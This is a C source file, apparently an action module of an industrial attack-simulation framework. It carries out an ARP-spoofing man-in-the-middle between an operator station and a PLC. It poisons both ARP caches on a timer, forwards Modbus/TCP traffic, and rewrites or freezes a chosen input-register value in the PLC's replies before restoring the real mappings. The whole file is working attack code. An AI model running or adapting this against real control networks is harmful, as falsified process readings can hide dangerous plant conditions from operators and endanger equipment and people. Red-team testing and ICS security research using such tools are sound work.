/*
 * Between an operator station and its PLC by ARP (RFC 826 asks nobody for a proof), forwarding what
 * comes, and changing one measured value on its way to the station.
 */
#include <arpa/inet.h>
#include <net/ethernet.h>
#include <stdlib.h>
#include <string.h>

#include "pcaps/plant/answer.h"
#include "pcaps/plant/play.h"
#include "pcaps/plant/raw.h"

#define MBAP	    7
#define ASKED	    256 /* requests that are remembered, by transaction */
#define LIE_MS	    2000
#define MODBUS_PORT 502

struct asked {
	uint16_t transaction, addr, count;
	uint8_t unit, function;
};

struct middle {
	struct raw raw;
	struct deed *deed;
	const struct variable *var; /* NULL: nothing is changed */
	uint8_t client_ip[4], client_mac[RAW_MAC], plc_ip[4], plc_mac[RAW_MAC];
	struct asked asked[ASKED];
	bool freeze, frozen;
	uint16_t regs[2]; /* what the station is told */
	unsigned forwarded, changed, port;
};

static void lie(const struct middle *m)
{
	raw_arp(&m->raw, 2, m->raw.mac, m->plc_ip, m->client_mac, m->client_ip);
	raw_arp(&m->raw, 2, m->raw.mac, m->client_ip, m->plc_mac, m->plc_ip);
}

static void tell_the_truth(const struct middle *m)
{
	raw_arp(&m->raw, 2, m->plc_mac, m->plc_ip, m->client_mac, m->client_ip);
	raw_arp(&m->raw, 2, m->client_mac, m->client_ip, m->plc_mac, m->plc_ip);
}

static void remember(struct middle *m, const uint8_t *adu, size_t len)
{
	if (len < MBAP + 5)
		return;
	m->asked[get16(adu) % ASKED] = (struct asked){ .transaction = get16(adu),
						       .unit = adu[6],
						       .function = adu[7],
						       .addr = get16(adu + 8),
						       .count = get16(adu + 10) };
}

/* Puts the lie in the place of the value, when the answer has it; true when it did. */
static bool change(struct middle *m, uint8_t *adu, size_t len)
{
	const struct asked *a = &m->asked[get16(adu) % ASKED];
	const struct variable *var = m->var;
	unsigned width, at;

	if (!var || len < MBAP + 2 || a->transaction != get16(adu) || a->unit != adu[6] ||
	    a->function != 4 || adu[7] != 4 || var->area != INPUT || var->unit != a->unit)
		return false;
	width = (unsigned)variable_width(var);
	if (var->addr < a->addr || var->addr + width > (unsigned)a->addr + a->count)
		return false;
	at = MBAP + 2 + (var->addr - a->addr) * 2U;
	if (at + width * 2 > len)
		return false;
	if (m->freeze && !m->frozen) {
		for (unsigned i = 0; i < width; i++)
			m->regs[i] = get16(adu + at + i * 2);
		m->frozen = true;
	}
	for (unsigned i = 0; i < width; i++)
		put16(adu + at + i * 2, m->regs[i]);
	return true;
}

static void forward(struct middle *m, uint8_t *f, size_t n)
{
	uint8_t *ip = f + RAW_ETHER;
	size_t head = (size_t)(ip[0] & 15) * 4, total = get16(ip + 2);
	bool to_plc = memcmp(ip + 16, m->plc_ip, 4) == 0;
	bool to_client = memcmp(ip + 16, m->client_ip, 4) == 0;

	if (memcmp(f, m->raw.mac, RAW_MAC) != 0 || (!to_plc && !to_client) ||
	    RAW_ETHER + total > n || total < head + 20 || ip[9] != IPPROTO_TCP)
		return;

	uint8_t *tcp = ip + head;
	size_t tcp_head = (size_t)(tcp[12] >> 4) * 4;
	uint8_t *adu = tcp + tcp_head;
	size_t len = total < head + tcp_head ? 0 : total - head - tcp_head;

	if (to_plc && get16(tcp + 2) == m->port)
		remember(m, adu, len);
	else if (to_client && get16(tcp) == m->port && len >= MBAP)
		m->changed += change(m, adu, len);
	memcpy(f, to_plc ? m->plc_mac : m->client_mac, RAW_MAC);
	memcpy(f + RAW_MAC, m->raw.mac, RAW_MAC);
	ip[8]--;
	raw_checksums(f);
	raw_send(&m->raw, f, RAW_ETHER + total);
	m->forwarded++;
}

static bool middle_open(struct middle *m, struct deed *d)
{
	const char *client = scenario_word(d->step, "client"), *freeze;
	int host = client ? host_find(client) : NO_HOST;

	m->deed = d;
	m->port = (unsigned)strtoul(d->reach.port, NULL, 10);
	m->var = d->variable >= 0 ? &variables[d->variable] : NULL;
	freeze = scenario_word(d->step, "freeze");
	m->freeze = freeze && strcmp(freeze, "true") == 0;
	if (m->var)
		variable_registers(m->var, deed_number(d, "value", m->var->start), m->regs);
	if (host == NO_HOST || !raw_open(&m->raw, ETH_P_ALL))
		return false;
	inet_pton(AF_INET, hosts[host].ip, m->client_ip);
	inet_pton(AF_INET, d->visit.address, m->plc_ip);
	if (raw_resolve(&m->raw, m->client_ip, m->client_mac) &&
	    raw_resolve(&m->raw, m->plc_ip, m->plc_mac))
		return true;
	complain("%s or %s does not answer", client, hosts[d->to].name);
	raw_close(&m->raw);
	return false;
}

int action_middle(struct deed *d)
{
	static struct middle m;
	uint64_t begin = clock_now(), end = begin + deed_time(d, "for", 0), next = begin;
	uint8_t frame[RAW_FRAME];

	if (!middle_open(&m, d))
		return FAILED;
	say(&d->visit, "tells %s and %s that it is the other, and forwards",
	    scenario_word(d->step, "client"), hosts[d->to].name);
	while (!stop_asked() && clock_now() < end) {
		size_t n;

		if (clock_now() >= next) {
			lie(&m);
			next += LIE_MS * UINT64_C(1000000);
		}
		n = raw_receive(&m.raw, frame, 20);
		if (n > RAW_ETHER + 40 && get16(frame + 12) == ETHERTYPE_IP)
			forward(&m, frame, n);
	}
	for (int i = 0; i < 3; i++) {
		tell_the_truth(&m);
		clock_sleep_ms(300);
	}
	say(&d->visit, "%u segments forwarded, the value changed in %u; told the truth again",
	    m.forwarded, m.changed);
	raw_close(&m.raw);
	return m.forwarded && (!m.var || m.changed) ? DONE : FAILED;
}
